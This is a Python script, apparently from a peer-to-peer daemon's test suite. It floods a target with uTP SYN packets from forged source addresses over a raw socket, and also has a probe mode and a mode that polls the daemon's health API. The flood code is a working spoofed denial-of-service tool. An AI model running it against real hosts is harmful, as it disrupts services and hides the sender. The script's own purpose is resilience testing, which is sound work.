"""A uTP SYN flood from forged source addresses, for the SYN-flood test (run as root, inside a network namespace).

    python3 utp_syn_flood.py TARGET PORT SOURCES_CIDR RATE SECONDS
    python3 utp_syn_flood.py probe TARGET PORT SECONDS
    python3 utp_syn_flood.py watch STATE_FOLDER INTERVAL

Sends BEP 29 ST_SYN packets (type 4, version 1, a random connection id, sequence number and source port, no
extension: 20 bytes of uTP) to TARGET:PORT, each from the next address of SOURCES_CIDR in a fixed permutation (so
every address of the block is used before any repeats), at most RATE packets a second for at most SECONDS seconds
(RATE * SECONDS packets at most). The IPv4 and UDP headers are built here, with their checksums, and sent through a
raw socket (IPPROTO_RAW implies IP_HDRINCL): the kernel takes the forged source as given. Prints "flooding" when it
starts and, at the end, one JSON line: packets sent, send errors, seconds, the rate achieved, distinct sources,
the uTP and IP bytes of one SYN.

probe: one honest SYN from this host's own address (a socket of its own), resent each second until the target
answers with a state packet acking it, or SECONDS pass; prints "answered MS" (exit 0) or "no answer" (exit 1).

watch: reads a peernet daemon's GET /api/v1/node/doctor (its address and token from STATE_FOLDER) every INTERVAL
seconds and prints each report as one JSON line, until killed; a failed read prints {"error": ...}.
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn_packet(source, target, port, now_us):
    # BEP 29 header: type/version, extension, connection_id, timestamp_microseconds, timestamp_difference_microseconds,
    # wnd_size, seq_nr, ack_nr.
    utp = struct.pack("!BBHIIIHH", (4 << 4) | 1, 0, random.getrandbits(16), now_us & 0xFFFFFFFF, 0, 1 << 20, random.getrandbits(16), 0)
    sport = random.randint(1024, 65535)
    length = 8 + len(utp)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    udp_checksum = checksum(pseudo + struct.pack("!HHHH", sport, port, length, 0) + utp) or 0xFFFF
    udp = struct.pack("!HHHH", sport, port, length, udp_checksum)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0, source, target)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp + utp, len(utp)


def probe(target, port, seconds):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.0)
    connection_id = random.getrandbits(16)
    sequence = random.getrandbits(16)
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        syn = struct.pack("!BBHIIIHH", (4 << 4) | 1, 0, connection_id, int(time.monotonic() * 1e6) & 0xFFFFFFFF, 0, 1 << 20, sequence, 0)
        sock.sendto(syn, (target, port))
        try:
            while True:
                data, _ = sock.recvfrom(2048)
                if len(data) >= 20:
                    kind, _, answered_id, _, _, _, _, ack = struct.unpack("!BBHIIIHH", data[:20])
                    if kind == (2 << 4) | 1 and answered_id == connection_id and ack == sequence:
                        print("answered %d" % ((time.monotonic() - start) * 1000), flush=True)
                        return 0
        except socket.timeout:
            pass
    print("no answer", flush=True)
    return 1


def watch(state, interval):
    import urllib.request
    while True:
        try:
            with open(os.path.join(state, "api-endpoint")) as f:
                base = f.read().strip().rstrip("/")
            with open(os.path.join(state, "api-token")) as f:
                token = f.read().strip()
            request = urllib.request.Request(base + "/api/v1/node/doctor", headers={"Authorization": "Bearer " + token})
            with urllib.request.urlopen(request, timeout=5) as response:
                print(json.dumps(json.loads(response.read())), flush=True)
        except Exception as e:  # the daemon not up yet, or busy: say so and go on
            print(json.dumps({"error": str(e)}), flush=True)
        time.sleep(interval)


def main():
    if sys.argv[1] == "probe":
        return probe(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    if sys.argv[1] == "watch":
        return watch(sys.argv[2], float(sys.argv[3]))
    target_text, port_text, cidr, rate_text, seconds_text = sys.argv[1:6]
    target = socket.inet_aton(target_text)
    port = int(port_text)
    rate = float(rate_text)
    seconds = float(seconds_text)
    network = ipaddress.ip_network(cidr)
    base = int(network.network_address)
    size = network.num_addresses
    step = 40503 if size > 40503 else 1  # odd, so i * step mod 2^k visits every address of the block once per round
    limit = int(rate * seconds)

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    sources = set()
    utp_bytes = ip_bytes = 0
    print("flooding", flush=True)
    start = time.monotonic()
    while sent + errors < limit:
        elapsed = time.monotonic() - start
        if elapsed >= seconds:
            break
        due = min(limit, int(rate * elapsed) + 1)
        if sent + errors >= due:
            time.sleep(0.0005)
            continue
        for _ in range(min(due - sent - errors, 256)):  # in slices, so the time bound holds when behind
            index = sent + errors
            address = base + ((index * step) % size)
            source = struct.pack("!I", address)
            packet, utp_bytes = syn_packet(source, target, port, int(time.monotonic() * 1e6))
            ip_bytes = len(packet)
            try:
                sock.sendto(packet, (target_text, 0))
                sent += 1
                sources.add(address)
            except OSError:
                errors += 1
    elapsed = time.monotonic() - start
    print(json.dumps({
        "sent": sent,
        "errors": errors,
        "seconds": round(elapsed, 3),
        "rate": round(sent / elapsed, 1) if elapsed > 0 else 0,
        "sources": len(sources),
        "synUtpBytes": utp_bytes,
        "synIpBytes": ip_bytes,
    }), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
